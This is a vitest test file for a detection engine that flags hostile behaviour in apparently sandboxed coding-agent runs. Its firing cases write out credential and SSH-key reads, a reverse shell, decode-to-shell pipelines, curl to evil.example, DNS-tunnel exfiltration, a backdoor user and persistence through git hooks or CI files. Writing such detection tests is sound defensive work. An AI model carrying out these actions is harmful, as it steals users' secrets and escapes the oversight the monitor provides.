import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { packageRoot } from '../../package-root.js';
import { evaluateRules } from './evaluate.js';
import { loadRuleSet } from './load-rules.js';
import { CTX, HOME, Trace, WS } from './test-events.js';
import type { PatchFinding } from './types.js';

const rules = loadRuleSet({}, { rulesDir: path.join(packageRoot(), 'rules') });
/** A case gives the diff's text, or the canary findings of what was written. */
type Written = string | PatchFinding[] | undefined;
const run = (t: Trace, extra?: Written) =>
  evaluateRules(
    {
      syscalls: t.events,
      network: t.records,
      ...(typeof extra === 'string' ? { patch: extra } : extra ? { written: extra } : {}),
    },
    rules,
    CTX,
  );
const ids = (t: Trace, extra?: Written) => run(t, extra).map((a) => a.rule);

const BRIDGE = { family: 'inet' as const, ip: '127.0.0.1', port: 3128 };
const diff = (file: string, added: string[]) =>
  `diff --git a/${file} b/${file}\n--- a/${file}\n+++ b/${file}\n@@ -1,1 +1,${added.length + 1} @@\n {\n${added.map((l) => `+${l}`).join('\n')}\n`;

type Case = { fire: (t: Trace) => Written; benign: (t: Trace) => Written };

const canaryLeak = { detector: 'canary-ssh-key', kind: 'canary' as const, fingerprint: 'abcd1234' };

/** For every default rule: a workload that fires it and a similar-looking honest one that must not. */
const CASES: Record<string, Case> = {
  'secrets-canary-read': {
    fire: (t) =>
      void t
        .exec(2, 1, '/usr/bin/cat', ['cat', `${HOME}/.aws/credentials`])
        .open(2, `${HOME}/.aws/credentials`),
    benign: (t) =>
      void t
        .exec(2, 1, '/usr/bin/node', ['node', '/usr/bin/npm', 'install'])
        .open(2, `${HOME}/.npmrc`)
        .exec(3, 1, '/usr/bin/cat', ['cat', `${HOME}/.aws/config`])
        .open(3, `${HOME}/.aws/config`),
  },
  'secrets-ssh-key-read': {
    fire: (t) => void t.exec(2, 1, '/usr/bin/cp', ['cp']).open(2, `${HOME}/.ssh/id_ed25519`),
    benign: (t) =>
      void t
        .exec(2, 1, '/usr/bin/ssh', ['ssh'])
        .open(2, `${HOME}/.ssh/id_ed25519.pub`)
        .open(2, `${HOME}/.ssh/known_hosts`),
  },
  'secrets-cloud-credentials-read': {
    fire: (t) => void t.exec(2, 1, '/usr/bin/python3', ['python3', 'x.py']).open(2, `${HOME}/.kube/config`),
    benign: (t) =>
      void t.exec(2, 1, '/usr/bin/python3', ['python3', 'x.py']).open(2, `${HOME}/.kube/cache/http/x`),
  },
  'secrets-registry-token-read': {
    fire: (t) => void t.exec(2, 1, '/usr/bin/python3', ['python3', 'x.py']).open(2, `${HOME}/.pypirc`),
    benign: (t) => void t.exec(2, 1, '/usr/bin/python3', ['python3', 'x.py']).open(2, `${WS}/.pypirc`),
  },
  'secrets-token-file-read': {
    fire: (t) =>
      void t
        .exec(2, 1, '/usr/bin/python3', ['python3', '/tmp/x.py'], { cwd: WS })
        .open(2, `${HOME}/.codex/auth.json`),
    benign: (t) =>
      void t
        .exec(2, 1, '/usr/lib/node_modules/@openai/codex/vendor/codex', ['codex', 'exec'])
        .open(2, `${HOME}/.codex/auth.json`)
        .exec(3, 1, '/usr/bin/git', ['git', 'status'])
        .open(3, `${HOME}/.gitconfig`),
  },
  'secrets-shell-history-read': {
    fire: (t) => void t.exec(2, 1, '/usr/bin/cat', ['cat']).open(2, `${HOME}/.bash_history`),
    benign: (t) => void t.exec(2, 1, '/usr/bin/bash', ['bash', '-lc', 'true']).open(2, `${HOME}/.bashrc`),
  },
  'secrets-browser-store-read': {
    fire: (t) =>
      void t.exec(2, 1, '/usr/bin/cat', ['cat']).open(2, `${HOME}/.mozilla/firefox/ab.default/logins.json`),
    benign: (t) =>
      void t.exec(2, 1, '/usr/bin/cat', ['cat']).open(2, `${HOME}/.mozilla/firefox/ab.default/prefs.js`),
  },
  'secrets-system-credentials-read': {
    fire: (t) => void t.exec(2, 1, '/usr/bin/cat', ['cat']).open(2, '/etc/shadow'),
    benign: (t) =>
      void t.exec(2, 1, '/usr/bin/curl', ['curl']).open(2, '/etc/passwd').open(2, '/etc/shadow', 'read', -13),
  },
  'secrets-process-environment-read': {
    fire: (t) => void t.exec(2, 1, '/usr/bin/cat', ['cat']).open(2, '/proc/4242/environ'),
    benign: (t) =>
      void t
        .exec(2, 1, '/usr/bin/cat', ['cat'])
        .open(2, '/proc/self/environ')
        .open(2, '/proc/4242/status')
        // procps opens every process's environ to fill its table; `ps aux` prints none of it.
        .exec(3, 1, '/usr/bin/ps', ['ps', 'aux'])
        .open(3, '/proc/4242/environ')
        .exec(4, 1, '/usr/bin/ps', ['ps', '-ef'])
        .open(4, '/proc/4242/environ'),
  },
  'integrity-outside-workspace': {
    fire: (t) =>
      void t.exec(2, 1, '/usr/bin/touch', ['touch']).open(2, '/usr/local/bin/helper', 'create', -30),
    benign: (t) =>
      void t
        .exec(2, 1, '/usr/bin/python3', ['python3', '-m', 'pip', 'download', 'x'])
        .open(2, `${HOME}/.cache/pip/http/a`, 'create')
        .open(2, '/tmp/pip-x/setup.py', 'create')
        .open(2, `${WS}/src/a.py`, 'write')
        .meta(2, 'mkdir', '/tmp', undefined, -17)
        .open(2, '/usr/lib/python3/dist-packages/__pycache__/x.cpython-311.pyc.1', 'create', -30)
        .open(2, `${HOME}/.codex/sessions/s.jsonl`, 'create')
        .open(2, '/dev/null', 'write'),
  },
  'integrity-protected-path': {
    fire: (t) =>
      void t
        .exec(2, 1, '/usr/bin/ln', ['ln', '-s'])
        .meta(2, 'symlink', `${HOME}/.profile`, `${WS}/notes.txt`)
        .exec(3, 1, '/usr/bin/tee', ['tee', '-a', 'notes.txt'])
        .open(3, `${WS}/notes.txt`, 'write'),
    benign: (t) =>
      void t
        .exec(2, 1, '/usr/bin/bash', ['bash', '-l'])
        .open(2, `${HOME}/.bashrc`)
        .open(2, '/tmp/.bashrc', 'create'),
  },
  'integrity-protected-hardlink': {
    fire: (t) =>
      void t.exec(2, 1, '/usr/bin/ln', ['ln']).meta(2, 'linkat', '/etc/shadow', '/tmp/shadow', -18),
    benign: (t) =>
      void t.exec(2, 1, '/usr/bin/ln', ['ln']).meta(2, 'linkat', `${WS}/README.md`, `${WS}/README.link`),
  },
  'exec-untrusted-dir': {
    fire: (t) =>
      void t.open(1, '/tmp/x.sh', 'create').exec(2, 1, '/usr/bin/sh', ['sh', 'x.sh'], { cwd: '/tmp' }),
    benign: (t) =>
      void t
        .exec(2, 1, '/usr/bin/python3', ['python3', '-m', 'venv', '/tmp/venv'])
        .meta(2, 'symlink', '/usr/bin/python3', '/tmp/venv/bin/python3')
        .meta(2, 'symlink', 'python3', '/tmp/venv/bin/python')
        .meta(2, 'symlink', '/tmp/venv/bin/python3', '/tmp/venv/bin/python')
        .exec(3, 1, '/tmp/venv/bin/python', ['/tmp/venv/bin/python', '-c', 'print(1)'])
        .exec(4, 1, '/usr/bin/python3', ['python3', '-c', 'print(2)'], { cwd: '/tmp' }),
  },
  'exec-run-created-outside-workspace': {
    fire: (t) => void t.open(1, '/opt/tools/fmt', 'create').exec(2, 1, '/opt/tools/fmt', ['fmt']),
    benign: (t) =>
      void t
        .open(1, `${WS}/run.sh`, 'create')
        .meta(1, 'fchmodat', `${WS}/run.sh`)
        .exec(2, 1, `${WS}/run.sh`, ['./run.sh']),
  },
  'exec-downloaded': {
    fire: (t) =>
      void t
        .fork(1, 2)
        .open(2, `${WS}/tool`, 'create')
        .exec(2, 1, '/usr/bin/curl', ['curl', 'http://x/tool'])
        .connect(2, BRIDGE, -115)
        .exit(2)
        .exec(3, 1, `${WS}/tool`, ['./tool']),
    benign: (t) =>
      void t
        .exec(2, 1, `${WS}/.venv/bin/python`, ['.venv/bin/python', '-m', 'pip', 'install', 'pytest'])
        .connect(2, BRIDGE, -115)
        .open(2, `${WS}/.venv/bin/pytest`, 'create')
        .exec(3, 1, `${WS}/.venv/bin/pytest`, ['pytest']),
  },
  'exec-downloaded-interpreter': {
    // A script the agent wrote whose #! line names a file a process with a connection wrote.
    fire: (t) =>
      void t
        .exec(2, 1, '/usr/bin/curl', ['curl', '-o', 'tools/py', 'http://x/py'])
        .connect(2, BRIDGE, -115)
        .open(2, `${WS}/tools/py`, 'create')
        .exit(2)
        .exec(3, 1, '/usr/bin/sh', ['sh', '-c', 'printf "#!tools/py" > s'])
        .open(3, `${WS}/s`, 'create')
        .exit(3)
        .exec(4, 1, `${WS}/s`, ['./s'], { interpreter: `${WS}/tools/py` }),
    // The venv's console script run by the interpreter pip's venv put there, and a link's target.
    benign: (t) =>
      void t
        .exec(2, 1, `${WS}/.venv/bin/python`, ['.venv/bin/python', '-m', 'pip', 'install', 'pytest'])
        .connect(2, BRIDGE, -115)
        .open(2, `${WS}/.venv/bin/pytest`, 'create')
        .open(2, `${WS}/.venv/bin/python3.11`, 'create')
        .exit(2)
        .exec(3, 1, `${WS}/.venv/bin/pytest`, ['pytest'], { interpreter: `${WS}/.venv/bin/python3.11` })
        .exec(4, 1, '/usr/bin/sh', ['sh', '-c', 'true'], { interpreter: '/usr/bin/dash' }),
  },
  'exec-downloaded-code': {
    // A download sourced by the agent's shell, then one redirected to sh's input by a copy of it.
    fire: (t) =>
      void t
        .exec(1, 0, '/usr/bin/sh', ['sh', 'agent.sh'])
        .exec(2, 1, '/usr/bin/curl', ['curl', '-o', 'dl/run.sh', 'http://x/run.sh'])
        .connect(2, BRIDGE, -115)
        .open(2, `${WS}/dl/run.sh`, 'create')
        .exit(2)
        .open(1, `${WS}/dl/run.sh`)
        .open(1, '/dev/null', 'create')
        .exit(1),
    // The agent's own script sourced and fed to sh; a download read as data by jq through a redirect.
    benign: (t) =>
      void t
        .exec(1, 0, '/usr/bin/sh', ['sh', 'agent.sh'])
        .exec(2, 1, '/usr/bin/curl', ['curl', '-o', 'dl/data.json', 'http://x/data.json'])
        .connect(2, BRIDGE, -115)
        .open(2, `${WS}/dl/data.json`, 'create')
        .exit(2)
        .open(1, `${WS}/dl/data.json`)
        // dash copies a redirect onto standard input before it forks the command.
        .event(1, { kind: 'other', syscall: 'dup2', path: `${WS}/dl/data.json`, result: 0 })
        .fork(1, 4)
        .exec(4, 1, '/usr/bin/jq', ['jq', '.'])
        .exit(4)
        .open(1, `${WS}/own.sh`, 'create')
        .open(1, `${WS}/own.sh`)
        .open(1, '/dev/null', 'create')
        .open(1, `${WS}/own.sh`)
        .event(1, { kind: 'other', syscall: 'dup2', path: `${WS}/own.sh`, result: 0 })
        .fork(1, 3)
        .exec(3, 1, '/usr/bin/sh', ['sh'])
        .exit(3)
        .exit(1),
  },
  'exec-privilege-tool': {
    fire: (t) => void t.exec(2, 1, '/usr/bin/sudo', ['sudo', 'id']),
    benign: (t) =>
      void t
        .exec(2, 1, '/usr/local/bin/sudo', ['sudo', 'id'], { result: -2 })
        .exec(3, 1, '/usr/bin/id', ['id']),
  },
  'exec-setid-capset': {
    fire: (t) => void t.exec(2, 1, '/usr/bin/python3', ['python3', '-c', 'os.setuid(0)']).priv(2, 'setuid'),
    benign: (t) =>
      void t.exec(2, 1, '/usr/bin/make', ['make', 'test']).priv(2, 'setresuid').priv(2, 'setresgid'),
  },
  'exec-signal-outside-run': {
    fire: (t) => void t.exec(2, 1, '/usr/bin/kill', ['kill', '-USR1', '2']).priv(2, 'kill', -1),
    // Its own child, and a stale pid file's process that is gone (ESRCH).
    benign: (t) =>
      void t
        .exec(2, 1, '/usr/bin/timeout', ['timeout', '1', 'sleep', '5'])
        .priv(2, 'kill', 0)
        .priv(2, 'kill', -3),
  },
  'exec-ptrace': {
    fire: (t) => void t.exec(2, 1, '/usr/bin/gdb', ['gdb', '-p', '1']).priv(2, 'ptrace', -1),
    benign: (t) => void t.exec(2, 1, '/usr/bin/gdb', ['gdb', '--version']).open(2, '/proc/1/status'),
  },
  'exec-mount': {
    fire: (t) => void t.exec(2, 1, '/usr/bin/mount', ['mount', '-t', 'tmpfs']).priv(2, 'mount', -1, '/mnt'),
    benign: (t) => void t.exec(2, 1, '/usr/bin/findmnt', ['findmnt']).open(2, '/proc/self/mountinfo'),
  },
  'exec-kernel-load': {
    fire: (t) => void t.exec(2, 1, '/usr/sbin/insmod', ['insmod', 'x.ko']).priv(2, 'finit_module', -1),
    benign: (t) => void t.exec(2, 1, '/usr/sbin/lsmod', ['lsmod']).open(2, '/proc/modules'),
  },
  'exec-namespace-change': {
    fire: (t) => void t.exec(2, 1, '/usr/bin/unshare', ['unshare', '-Ur', 'sh']).priv(2, 'unshare', -1),
    benign: (t) => void t.exec(2, 1, '/usr/bin/lsns', ['lsns']).open(2, '/proc/self/ns/mnt'),
  },
  'exec-keyring': {
    fire: (t) =>
      void t.exec(2, 1, '/usr/bin/keyctl', ['keyctl', 'add', 'user', 'k', 'v', '@u']).priv(2, 'add_key', -1),
    benign: (t) => void t.exec(2, 1, '/usr/bin/keyctl', ['keyctl', '--version']).open(2, '/etc/ld.so.cache'),
  },
  'exec-kernel-module-tool': {
    fire: (t) => void t.exec(2, 1, '/usr/sbin/modprobe', ['modprobe', 'evil']),
    benign: (t) => void t.exec(2, 1, '/usr/sbin/modprobe', ['modprobe', 'x'], { result: -2 }),
  },
  'exec-user-management': {
    fire: (t) => void t.exec(2, 1, '/usr/sbin/useradd', ['useradd', 'backdoor']),
    benign: (t) => void t.exec(2, 1, '/usr/bin/id', ['id']).open(2, '/etc/passwd'),
  },
  'exec-setid-bit': {
    fire: (t) =>
      void t.exec(2, 1, '/usr/bin/chmod', ['chmod', 'u+s', 'tool']).event(2, {
        kind: 'write-meta',
        syscall: 'fchmodat',
        path: `${WS}/tool`,
        mode: 0o4755,
        result: 0,
      }),
    benign: (t) =>
      void t.exec(2, 1, '/usr/bin/chmod', ['chmod', '+x', 'run.sh']).event(2, {
        kind: 'write-meta',
        syscall: 'fchmodat',
        path: `${WS}/run.sh`,
        mode: 0o755,
        result: 0,
      }),
  },
  'exec-reverse-shell': {
    // bash opens /dev/tcp/HOST/PORT on its descriptors, then execs the shell in the same process.
    fire: (t) =>
      void t
        .fork(1, 2)
        .connect(2, { family: 'inet', ip: '127.0.0.1', port: 4444 })
        .exec(2, 1, '/usr/bin/sh', ['sh', '-i']),
    // npm (which talked to the registry) runs a lifecycle script through `sh -c` in a child.
    benign: (t) =>
      void t
        .exec(2, 1, '/usr/bin/node', ['node', '/usr/bin/npm', 'test'])
        .connect(2, BRIDGE)
        .exec(3, 2, '/usr/bin/sh', ['sh', '-c', 'node --test']),
  },
  'exec-decode-to-shell': {
    fire: (t) =>
      void t
        .fork(1, 2)
        .fork(1, 3)
        .exec(2, 1, '/usr/bin/base64', ['base64', '-d', 'payload.b64'])
        .exec(3, 1, '/usr/bin/sh', ['sh']),
    // Decoding a fixture, listing it, then a shell reading the terminal: not a pipeline.
    benign: (t) =>
      void t
        .exec(2, 1, '/usr/bin/base64', ['base64', '-d', 'fixture.b64'])
        .exit(2)
        .exec(3, 1, '/usr/bin/ls', ['ls', '-l'])
        .exit(3)
        .exec(4, 1, '/usr/bin/sh', ['sh'])
        .exec(5, 1, '/usr/bin/grep', ['grep', '-rn', 'exec(b64decode', 'src']),
  },
  'exec-glibc-tunables': {
    // The first recorded environment is the harness's: the run sets the variable after it.
    fire: (t) =>
      void t.exec(2, 1, '/usr/bin/bash', ['bash', 'x.sh'], { env: [] }).exec(3, 2, '/usr/bin/su', ['su'], {
        env: ['GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A'],
      }),
    benign: (t) =>
      void t
        .exec(2, 1, '/usr/bin/bash', ['bash', 'x.sh'], { env: [] })
        .exec(3, 2, '/usr/bin/node', ['node', 'bench.js'], {
          env: ['GLIBC_TUNABLES=glibc.malloc.hugetlb=1'],
        }),
  },
  'exec-setid-search': {
    fire: (t) => void t.exec(2, 1, '/usr/bin/find', ['find', '/', '-perm', '-4000', '-type', 'f']),
    benign: (t) => void t.exec(2, 1, '/usr/bin/find', ['find', '.', '-perm', '-u+x', '-type', 'f']),
  },
  'exec-scheduler-or-service': {
    fire: (t) =>
      void t.exec(2, 1, '/usr/bin/systemctl', ['systemctl', '--user', 'enable', 'updater.service']),
    benign: (t) => void t.exec(2, 1, '/usr/bin/systemctl', ['systemctl', 'list-units', '--type=service']),
  },
  'evasion-file-attributes': {
    fire: (t) => void t.exec(2, 1, '/usr/bin/chattr', ['chattr', '-i', '/etc/resolv.conf']),
    benign: (t) => void t.exec(2, 1, '/usr/bin/lsattr', ['lsattr', '/etc/resolv.conf']),
  },
  'net-unconfined-socket': {
    fire: (t) =>
      void t
        .exec(2, 1, '/usr/bin/python3', ['python3', 'vsock.py'])
        .event(2, { kind: 'other', syscall: 'socket', flags: ['AF_VSOCK'], result: -38 }),
    benign: (t) =>
      void t
        .exec(2, 1, '/usr/bin/python3', ['python3', 'server.py'])
        .event(2, { kind: 'other', syscall: 'socket', flags: ['AF_UNIX', 'SOCK_STREAM'], result: 3 })
        .event(2, { kind: 'other', syscall: 'socket', flags: ['AF_INET6', 'SOCK_STREAM'], result: 4 }),
  },
  'evasion-personality': {
    // Refused (ENOSYS) with its flags under strace, with none under the collector; ASLR turned off
    // where no filter refused it.
    fire: (t) =>
      void t
        .exec(2, 1, '/usr/bin/python3', ['python3', 'x.py'])
        .event(2, { kind: 'privilege', syscall: 'personality', flags: ['READ_IMPLIES_EXEC'], result: -38 })
        .event(2, { kind: 'privilege', syscall: 'personality', result: -38 })
        .event(2, { kind: 'privilege', syscall: 'personality', flags: ['ADDR_NO_RANDOMIZE'], result: 0 }),
    // The query and the personalities the filter allows.
    benign: (t) =>
      void t
        .exec(2, 1, '/usr/bin/python3', ['python3', 'x.py'])
        .event(2, { kind: 'privilege', syscall: 'personality', flags: ['0xffffffff'], result: 0 })
        .event(2, { kind: 'privilege', syscall: 'personality', result: 0 })
        .event(2, { kind: 'privilege', syscall: 'personality', flags: ['PER_LINUX32'], result: 0 }),
  },
  'net-raw-socket': {
    fire: (t) =>
      void t
        .exec(2, 1, '/usr/bin/python3', ['python3', 'sniff.py'])
        .event(2, { kind: 'other', syscall: 'socket', flags: ['AF_PACKET', 'SOCK_RAW'], result: -1 }),
    benign: (t) =>
      void t
        .exec(2, 1, '/usr/bin/python3', ['python3', 'server.py'])
        .event(2, { kind: 'other', syscall: 'socket', flags: ['AF_INET', 'SOCK_DGRAM'], result: 3 })
        .exec(3, 1, '/usr/bin/ping', ['ping', '-c1', '127.0.0.1'])
        .event(3, {
          kind: 'other',
          syscall: 'socket',
          flags: ['AF_INET', 'SOCK_RAW', 'IPPROTO_ICMP'],
          result: 3,
        }),
  },
  'secrets-process-memory-read': {
    fire: (t) =>
      void t.exec(2, 1, '/usr/bin/python3', ['python3', 'dump.py']).open(2, '/proc/4242/mem', 'read', -13),
    benign: (t) =>
      void t
        .exec(2, 1, '/usr/bin/cat', ['cat', '/proc/self/maps'])
        .open(2, '/proc/self/maps')
        .open(2, '/proc/4242/stat'),
  },
  'secrets-process-memory-call': {
    // A sibling's memory (refused), and a tracer that could not tell whose (bpftrace): both count.
    fire: (t) =>
      void t
        .exec(2, 1, '/usr/bin/python3', ['python3', 'dump.py'])
        .event(2, {
          kind: 'privilege',
          syscall: 'process_vm_readv',
          target_pid: 7,
          target_self: false,
          result: -1,
        })
        .event(2, { kind: 'privilege', syscall: 'process_vm_writev', target_pid: 7, result: 0 }),
    // Its own memory, as runtimes probe an address.
    benign: (t) =>
      void t
        .exec(2, 1, '/usr/bin/python3', ['python3', 'dump.py'])
        .priv(2, 'prctl')
        .event(2, {
          kind: 'privilege',
          syscall: 'process_vm_readv',
          target_pid: 2,
          target_self: true,
          result: 0,
        })
        .open(2, '/proc/4242/status'),
  },
  'integrity-bulk-delete': {
    fire: (t) => {
      t.exec(2, 1, '/usr/bin/rm', ['rm', '-rf', 'src']);
      for (let i = 0; i < 50; i++) t.meta(2, 'unlinkat', `${WS}/src/f${i}.js`);
      return undefined;
    },
    // A clean of dependencies and build output, and a handful of source files removed.
    benign: (t) => {
      t.exec(2, 1, '/usr/bin/rm', ['rm', '-rf', 'node_modules', 'dist']);
      for (let i = 0; i < 200; i++) t.meta(2, 'unlinkat', `${WS}/node_modules/p${i}/index.js`);
      for (let i = 0; i < 60; i++) t.meta(2, 'unlinkat', `${WS}/dist/f${i}.js`);
      for (let i = 0; i < 10; i++) t.meta(2, 'unlinkat', `${WS}/src/old${i}.js`);
      return undefined;
    },
  },
  'secrets-key-search': {
    fire: (t) => void t.exec(2, 1, '/usr/bin/find', ['find', HOME, '-name', 'id_rsa']),
    // Looking for keys the project itself holds, in the workspace.
    benign: (t) => void t.exec(2, 1, '/usr/bin/grep', ['grep', '-rl', 'PRIVATE KEY-----', '.']),
  },
  'secrets-credential-search': {
    fire: (t) =>
      void t.exec(2, 1, '/usr/bin/find', ['find', '/', '-iname', 'credentials', '-path', '*/.aws/*']),
    benign: (t) => void t.exec(2, 1, '/usr/bin/find', ['find', '.', '-name', '*.pem']),
  },
  'evasion-loader-exec': {
    fire: (t) =>
      void t.exec(2, 1, '/lib64/ld-linux-x86-64.so.2', [
        '/lib64/ld-linux-x86-64.so.2',
        '/tmp/noexec/payload',
      ]),
    benign: (t) =>
      void t
        .exec(2, 1, '/usr/bin/bash', ['bash', '/usr/bin/ldd', '/usr/bin/node'])
        .exec(3, 2, '/lib64/ld-linux-x86-64.so.2', ['/lib64/ld-linux-x86-64.so.2', '/usr/bin/node']),
  },
  'exec-userfaultfd': {
    fire: (t) => void t.exec(2, 1, '/usr/bin/python3', ['python3', 'x.py']).priv(2, 'userfaultfd', 3),
    benign: (t) =>
      void t.exec(2, 1, '/usr/bin/python3', ['python3', 'x.py']).open(2, '/proc/self/status').exit(2),
  },
  'exec-host-call': {
    fire: (t) =>
      void t
        .exec(2, 1, '/usr/bin/python3', ['python3', 'x.py'])
        .priv(2, 'reboot', -38)
        .event(2, { kind: 'open', syscall: 'open_by_handle_at', access: 'read', result: -38 }),
    // dmesg's refused read of /dev/kmsg and the personality query reach nothing of the host.
    benign: (t) =>
      void t
        .exec(2, 1, '/usr/bin/dmesg', ['dmesg'])
        .open(2, '/dev/kmsg', 'read', -13)
        .event(2, { kind: 'privilege', syscall: 'personality', flags: ['0xffffffff'], result: 0 }),
  },
  'exec-container-socket': {
    fire: (t) =>
      void t
        .exec(2, 1, '/usr/bin/curl', ['curl'])
        .connect(2, { family: 'unix', path: '/var/run/docker.sock' }, -2),
    benign: (t) =>
      void t
        .exec(2, 1, '/usr/bin/curl', ['curl'])
        .connect(2, { family: 'unix', path: '/var/run/nscd/socket' }, -2),
  },
  'net-connect-not-allowed': {
    fire: (t) =>
      void t
        .exec(2, 1, '/usr/bin/curl', ['curl'])
        .connect(2, { family: 'inet', ip: '1.2.3.4', port: 443 }, -101),
    benign: (t) =>
      void t
        .exec(3, 1, '/usr/bin/python3', ['python3', '-m', 'http.server', '8765'])
        .bind(3, { family: 'inet6', ip: '::', port: 8765 })
        .exec(2, 1, '/usr/bin/curl', ['curl'])
        .connect(2, BRIDGE, -115)
        .connect(2, { family: 'inet', ip: '127.0.0.1', port: 8765 })
        .connect(2, { family: 'inet6', ip: '::1', port: 8765 }, -111),
  },
  'net-loopback-not-run': {
    fire: (t) =>
      void t
        .exec(2, 1, '/usr/bin/curl', ['curl'])
        .connect(2, { family: 'inet', ip: '127.0.0.1', port: 22 }, -115)
        .event(2, {
          kind: 'connect',
          syscall: 'sendto',
          addr: { family: 'inet', ip: '127.0.0.1', port: 5140 },
          result: 1,
        }),
    benign: (t) =>
      void t
        .exec(2, 1, '/usr/bin/curl', ['curl'])
        // A client retrying before its test server has bound the port.
        .connect(2, { family: 'inet', ip: '127.0.0.1', port: 8765 }, -111)
        .exec(3, 1, '/usr/bin/python3', ['python3', '-m', 'http.server', '8765'])
        .bind(3, { family: 'inet', ip: '127.0.0.1', port: 8765 })
        .connect(2, { family: 'inet', ip: '127.0.0.1', port: 8765 })
        // A server on a port the kernel chose, its client's connect in progress.
        .exec(4, 1, '/usr/bin/node', ['node', 'server.test.js'])
        .bind(4, { family: 'inet', ip: '127.0.0.1', port: 0 })
        .connect(4, { family: 'inet', ip: '127.0.0.1', port: 40123 }, -115)
        .connect(2, BRIDGE, -115)
        .connect(2, { family: 'inet', ip: '127.0.0.1', port: 53 }),
  },
  'net-dns-direct': {
    fire: (t) =>
      void t
        .exec(2, 1, '/usr/bin/python3', ['python3'])
        .connect(2, { family: 'inet', ip: '10.255.255.53', port: 53 }, -101),
    benign: (t) =>
      void t
        .exec(2, 1, '/usr/bin/python3', ['python3'])
        .connect(2, { family: 'inet', ip: '127.0.0.1', port: 53 }),
  },
  'net-proxy-not-allowed': {
    fire: (t) =>
      void t
        .exec(2, 1, '/usr/bin/curl', ['curl', 'http://evil.example/x'])
        .connect(2, BRIDGE, -115)
        .record({ host: 'evil.example', port: 80, protocol: 'http', decision: 'denied', method: 'GET' }),
    benign: (t) =>
      void t
        .exec(2, 1, '/usr/bin/curl', ['curl', 'https://registry.npmjs.org/'])
        .connect(2, BRIDGE, -115)
        .record({ host: 'registry.npmjs.org', port: 443 })
        .record({ host: 'files.pythonhosted.org', port: 443 })
        .record({ host: 'api.example.com', port: 443 }),
  },
  'net-vendor-host': {
    fire: (t) =>
      void t
        .exec(2, 1, '/usr/bin/curl', ['curl', 'https://api.openai.com/v1/models'])
        .connect(2, BRIDGE, -115)
        .record({
          host: 'api.openai.com',
          port: 443,
          protocol: 'connect',
          decision: 'denied',
          method: 'CONNECT',
        }),
    benign: (t) =>
      void t
        .exec(2, 1, '/usr/bin/curl', ['curl', 'https://api.example.com/v1/models'])
        .connect(2, BRIDGE, -115)
        .record({ host: 'api.example.com', port: 443, protocol: 'connect', method: 'CONNECT' })
        .record({ host: 'api.example.com', port: 53, protocol: 'dns', method: 'A' }),
  },
  'net-dns-not-allowed': {
    fire: (t) =>
      void t.record({
        host: 'beacon.evil.example',
        port: 53,
        protocol: 'dns',
        decision: 'denied',
        method: 'A',
      }),
    benign: (t) => void t.record({ host: 'API.Example.com.', port: 53, protocol: 'dns', method: 'A' }),
  },
  'secrets-canary-sent': {
    fire: (t) =>
      void t.exec(2, 1, '/usr/bin/curl', ['curl', '-d', '@-', 'http://api.example.com:443/']).record({
        host: 'api.example.com',
        port: 443,
        protocol: 'http',
        method: 'POST',
        decision: 'allowed',
        leaks: [{ where: 'body', encoding: 'gzip+base64', ...canaryLeak }],
      }),
    benign: (t) =>
      void t.exec(2, 1, '/usr/bin/curl', ['curl', '-d', '@-', 'http://api.example.com:443/']).record({
        host: 'api.example.com',
        port: 443,
        protocol: 'http',
        method: 'POST',
        decision: 'allowed',
      }),
  },
  'secrets-secret-sent': {
    fire: (t) =>
      // To an allowed host, in a credential header: any secret that is not the run's own counts.
      void t.exec(2, 1, '/usr/bin/curl', ['curl', 'https://api.example.com/']).record({
        host: 'api.example.com',
        port: 443,
        protocol: 'http',
        method: 'POST',
        decision: 'allowed',
        leaks: [
          { where: 'credential-header', detector: 'github-token', kind: 'preset', fingerprint: '0badf00d' },
        ],
      }),
    // The agent's own model key to its provider: the proxy leaves the run's own credentials out of
    // the record on their way to their hosts (outbound-scan.test.ts), so the record carries none.
    benign: (t) =>
      void t.exec(2, 1, '/usr/bin/node', ['node', 'agent.js']).record({
        host: 'api.example.com',
        port: 443,
        protocol: 'http',
        method: 'POST',
        decision: 'allowed',
      }),
  },
  'secrets-canary-written': {
    fire: (t) => {
      t.exec(2, 1, '/usr/bin/python3', ['python3', 'x.py']).open(2, `${WS}/fixtures/blob.bin`, 'write');
      return [
        {
          file: 'fixtures/blob.bin',
          line: 0,
          finding: 'canary',
          text: 'canary-ssh-key, hex in binary',
          leak: { where: 'binary', encoding: 'hex', ...canaryLeak },
        },
      ];
    },
    benign: (t) => {
      t.exec(2, 1, '/usr/bin/python3', ['python3', 'x.py']).open(2, `${WS}/fixtures/blob.bin`, 'write');
      return [];
    },
  },
  'net-dns-tunnel': {
    fire: (t) =>
      void t.record({
        host: 'aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQgZGF0YQ.bXk.exfil.example',
        port: 53,
        protocol: 'dns',
        decision: 'denied',
      }),
    benign: (t) =>
      void t.record({
        host: 'a-very-long-mirror-name-for-wheels.files.pythonhosted.org',
        port: 53,
        protocol: 'dns',
      }),
  },
  'persist-git-hook': {
    fire: (t) => void t.open(1, `${WS}/.git/hooks/pre-commit`, 'create'),
    benign: (t) =>
      void t
        .exec(2, 1, '/usr/bin/git', ['git', 'commit', '-m', 'x'])
        .open(2, `${WS}/.git/index.lock`, 'create')
        .meta(2, 'rename', `${WS}/.git/index.lock`, `${WS}/.git/index`)
        .open(2, `${WS}/.git/hooks/pre-commit.sample`, 'create'),
  },
  'persist-git-config': {
    fire: (t) =>
      void t
        .exec(2, 1, '/usr/bin/git', ['git', 'config', 'core.hooksPath', '.githooks'])
        .open(2, `${WS}/.git/config.lock`, 'create')
        .meta(2, 'rename', `${WS}/.git/config.lock`, `${WS}/.git/config`),
    benign: (t) =>
      void t
        .exec(2, 1, '/usr/bin/git', ['git', 'config', 'user.email', 'a@b'])
        .open(2, `${WS}/.git/config.lock`, 'create')
        .meta(2, 'rename', `${WS}/.git/config.lock`, `${WS}/.git/config`),
  },
  'persist-ci-config': {
    fire: (t) => void t.open(1, `${WS}/.github/workflows/ci.yml`, 'create'),
    benign: (t) =>
      void t
        .meta(1, 'mkdir', `${WS}/.github/workflows`)
        .open(1, `${WS}/.github/ISSUE_TEMPLATE/bug.md`, 'create'),
  },
  'persist-editor-agent-config': {
    fire: (t) => void t.open(1, `${WS}/.vscode/tasks.json`, 'create'),
    benign: (t) => void t.open(1, `${WS}/.vscode/extensions.json`, 'create'),
  },
  'persist-shell-rc': {
    fire: (t) => void t.open(1, `${WS}/.envrc`, 'create'),
